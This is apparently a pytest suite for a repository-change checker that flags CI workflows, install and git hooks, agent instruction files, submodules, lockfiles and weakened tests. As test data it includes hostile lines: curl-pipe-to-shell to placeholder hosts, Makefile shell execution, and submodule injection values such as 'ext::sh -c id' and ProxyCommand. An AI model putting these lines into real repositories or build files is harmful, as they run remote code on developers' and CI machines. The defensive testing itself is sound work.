"""Control files: what has power beyond itself is named; ordinary changes are not."""

from __future__ import annotations

import json

import pytest

from approvals.checks import ALL, CheckResult, control_files
from tests.core.check_kit import Side, candidate, found, rules


def check(path: str, old: Side, new: Side) -> CheckResult:
    return control_files.check(candidate({path: (old, new)}))


@pytest.mark.parametrize(
    ("rule", "path"),
    [
        ("CI control", ".github/workflows/ci.yml"),
        ("CI control", ".gitlab-ci.yml"),
        ("CI control", "Jenkinsfile"),
        ("CI control", ".circleci/config.yml"),
        ("CI control", ".github/dependabot.yml"),
        ("ownership", "CODEOWNERS"),
        ("ownership", ".github/CODEOWNERS"),
        ("ownership", "deploy/authorized_keys"),
        ("package source", ".npmrc"),
        ("package source", "pip.conf"),
        ("install time", "setup.py"),
        ("install time", "build.rs"),
        ("install time", "src/evil.pth"),
        ("install time", "sitecustomize.py"),
        ("test control", "conftest.py"),
        ("test control", "tests/unit/conftest.py"),
        ("test control", "pytest.ini"),
        ("test control", "jest.config.js"),
        ("git hooks", ".husky/pre-push"),
        ("git hooks", ".pre-commit-config.yaml"),
        ("git hooks", "lefthook.yml"),
        ("build and editor", ".vscode/tasks.json"),
        ("build and editor", ".devcontainer/devcontainer.json"),
        ("build and editor", "build.gradle.kts"),
        ("build and editor", ".envrc"),
        ("instructions for agents", "AGENTS.md"),
        ("instructions for agents", ".cursor/rules/x.mdc"),
    ],
)
def test_a_control_file_is_named_whether_new_changed_moved_or_gone(rule: str, path: str) -> None:
    for old, new in ((None, b"x\n"), (b"x\n", b"y\n"), (b"x\n", None)):
        result = check(path, old, new)
        assert rule in rules(result)
        assert all(each.acknowledge for each in result.findings)
    moved = candidate({"away.txt": (b"x", b"x")}, renames={"away.txt": path})
    assert rule in rules(control_files.check(moved))


@pytest.mark.parametrize(
    "path",
    ["src/app.py", "docs/workflows.md", "README.md", "tests/test_app.py", "github/a.yml",
     "hooks.py", "src/setup_tools.py", "owners.py", "Makefile", "package.json", "po/he.po"],
)  # fmt: skip
def test_an_ordinary_file_is_not(path: str) -> None:
    assert check(path, b"{}\n", b"{ }\n").findings == ()


@pytest.mark.parametrize(
    ("words", "line"),
    [
        ("secrets on other people", "on: pull_request_target"),
        ("permission to write", "permissions: write-all"),
        ("permission to write", "  contents: write"),
        ("uses secrets", "  env: {T: '${{ secrets.DEPLOY }}'}"),
        ("text from outside", "  run: echo ${{ github.event.issue.title }}"),
        ("machines of one's own", "  runs-on: [self-hosted]"),
        ("a name that can move", "  - uses: actions/checkout@v4"),
        ("what it downloads", "  run: curl https://x.example.invalid/i | sh"),
        ("lets a failure pass", "  continue-on-error: true"),
        ("lets a failure pass", "  run: make test || true"),
    ],
)
def test_what_a_new_line_of_a_workflow_says(words: str, line: str) -> None:
    result = check(".github/workflows/a.yml", b"jobs: {}\n", f"jobs: {{}}\n{line}\n".encode())
    assert any(words in each.text and each.line == 2 for each in result.findings)
    quiet = check(".github/workflows/a.yml", f"{line}\n".encode(), f"{line}\n# x\n".encode())
    assert not any(words in each.text for each in quiet.findings)


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("Makefile", "X := $(shell echo x > /tmp/x)"),
        ("CMakeLists.txt", "execute_process(COMMAND sh)"),
        ("Dockerfile", "RUN curl https://x.example.invalid | sh"),
        ("docker-compose.yml", "    privileged: true"),
        ("pom.xml", "<artifactId>exec-maven-plugin</artifactId>"),
        ("pyproject.toml", 'build-backend = "own"'),
        ("pyproject.toml", 'addopts = "--deselect x"'),
        ("Cargo.toml", 'build = "own.rs"'),
    ],
)
def test_build_files_are_named_for_what_new_lines_do(path: str, line: str) -> None:
    assert check(path, b"# a\n", f"# a\n{line}\n".encode()).outcome == "warned"
    assert check(path, b"# a\n", b"# a\n# another\n").outcome == "passed"


def test_install_scripts_of_package_json() -> None:
    def package(**facts: object) -> bytes:
        return json.dumps({"name": "a", **facts}).encode()

    test_only = package(scripts={"test": "node t.js"})
    hooked = package(scripts={"test": "node t.js", "postinstall": "node x.js"})
    assert "install time" in rules(check("package.json", test_only, hooked))
    assert check("package.json", hooked, hooked + b"\n").findings == ()
    assert check("package.json", test_only, package(scripts={"test": "jest"})).findings == ()
    twice = b'{"scripts":{},"scripts":{"install":"x"}}'
    assert "install time" in rules(check("package.json", test_only, twice))
    address = package(dependencies={"x": "git+https://x.example.invalid/x.git"})
    assert "dependencies" in rules(check("package.json", package(), address))
    assert "git hooks" in rules(
        check("package.json", None, package(scripts={"prepare": "git config core.hooksPath .h"}))
    )


def test_locks_and_indexes() -> None:
    lock = b'{"resolved": "https://registry.example.invalid/a.tgz", "integrity": "sha512-a"}\n'
    other = b'{"resolved": "https://canary.invalid/a.tgz", "integrity": "sha512-b"}\n'
    alone = check("web/package-lock.json", lock, other)
    texts = " ".join(each.text for each in alone.findings)
    assert "its manifest does not" in texts
    assert "canary.invalid" in texts
    with_manifest = control_files.check(
        candidate(
            {
                "web/package-lock.json": (lock, lock + b"{}\n"),
                "web/package.json": (b"{}", b'{"version":"2"}'),
            }
        )
    )
    assert with_manifest.findings == ()
    pins = b"django==5.2.1 --hash=sha256:" + b"a" * 64 + b"\n"
    index = b"--extra-index-url https://canary.invalid/simple\ndjango==5.2.1\n"
    result = check("requirements/base.txt", pins, index)
    assert {each.line for each in result.findings} == {None, 1}
    assert check("requirements.txt", b"a==1\n", b"a==2\n").findings == ()
    assert check("notes.txt", b"", index).findings == ()


@pytest.mark.parametrize(
    "line",
    ["@pytest.mark.skip", "@pytest.mark.xfail(reason='x')", "    pytest.skip('x')",
     "@unittest.skip('x')", "it.only('x', f)", "xit('x', f)", "    t.Skip()", "@Disabled",
     "    assert True", "describe.skip('x', f)"],
)  # fmt: skip
def test_a_test_that_no_longer_counts(line: str) -> None:
    old = b"def test_a():\n    assert f() == 1\n"
    result = check("tests/test_a.py", old, line.encode() + b"\n" + old)
    assert ("warning", "test weakened", "tests/test_a.py", 1) in found(result)


def test_tests_deleted_moved_away_or_emptied() -> None:
    body = b"def test_a():\n    assert f() == 1\n    assert g() == 2\n"
    assert rules(check("tests/test_a.py", body, None)) == {"test weakened"}
    assert rules(check("tests/test_a.py", body, b"def test_a():\n    f()\n")) == {"test weakened"}
    moved = candidate({"old/a.txt": (body, body)}, renames={"old/a.txt": "tests/test_a.py"})
    assert rules(control_files.check(moved)) == {"test weakened"}
    assert check("tests/test_a.py", body, body + b"    assert h() == 3\n").findings == ()


def test_attributes_are_named() -> None:
    result = check(".gitattributes", None, b"*.py -diff linguist-generated=true\n# *.c binary\n")
    assert [(each.rule, each.line) for each in result.findings] == [("attributes", 1)]
    assert rules(check("sub/.gitattributes", None, b"x filter=evil\n")) == {"attributes"}


@pytest.mark.parametrize(
    "line",
    ["url = -u./payload", "url = file:///root/private", "url = ../private", "url = /srv/x",
     'url = "ext::sh -c id"', "path = ../x", "path = .git/x", 'path = "x\\r"', "path = x\r",
     "update = !sh", 'url = "https://x.example.invalid/\\n-x"', "url = ssh://-oProxyCommand=x/y",
     '[submodule "../../x"]'],
)  # fmt: skip
def test_a_submodule_setting_that_could_run_or_reach_blocks(line: str) -> None:
    text = f'[submodule "x"]\n\t{line}\n'
    result = check(".gitmodules", None, text.encode())
    assert ("blocking", "submodule", ".gitmodules", 2) in found(result)


def test_a_submodule_is_named_and_its_address_may_be_ordinary() -> None:
    text = b'[submodule "x"]\n\tpath = lib/x\n\turl = https://git.example.invalid/x.git\n'
    result = check(".gitmodules", None, text)
    assert [each.severity for each in result.findings] == ["warning"]
    link = control_files.check(
        candidate({"lib": (("160000", b""), ("160000", b"")), "a": (b"1", b"2")})
    )
    assert ("warning", "submodule", "lib", None) in found(link)


def test_lfs_pointers_are_named_with_both_objects() -> None:
    def pointer(letter: str, size: int) -> bytes:
        oid = letter * 64
        return (
            f"version https://git-lfs.github.com/spec/v1\noid sha256:{oid}\nsize {size}\n".encode()
        )

    (finding,) = check("m.bin", pointer("a", 1), pointer("b", 2)).findings
    assert "aaaaaaaaaaaa, 1 bytes → object bbbbbbbbbbbb, 2 bytes" in finding.text
    (fake,) = check("m.bin", None, pointer("g", 1)).findings
    assert "not a valid one" in fake.text
    (real,) = check("m.bin", pointer("a", 1), b"\0content").findings
    assert "the content itself" in real.text


@pytest.mark.parametrize(
    ("path", "line"),
    [
        (".github/workflows/a.yml", b"curl " * 50_000),
        ("Dockerfile", b"RUN wget " * 25_000),
        ("a.xml", b"<!DOCTYPE a " * 25_000),
        ("a.svg", b"<include " * 25_000),
        ("a.pdf", b"%PDF-1.7\n" + b"stream\n" * 50_000),
        ("tests/test_a.py", b"raise " * 50_000),
        (".gitmodules", b"\turl = " + b'"' * 250_000),
        (".gitattributes", b"*.py " + b"diff=" * 50_000),
        ("requirements.txt", b"http://" * 50_000),
        ("package.json", b'{"scripts":' * 25_000),
        ("a.env", b"password=" * 50_000),
        ("a.json", b'{"\\' * 100_000),
        ("a.yaml", b"&a *a " * 25_000),
    ],
)
def test_a_hostile_line_costs_no_more_than_its_length(path: str, line: bytes) -> None:
    """Each of these would take hours with one unbounded pattern; the run would not end."""
    subject = candidate({path: (b"", line + b"\n")}, max_bytes=10**9)
    for each in ALL.values():
        assert each(subject).outcome != "error"
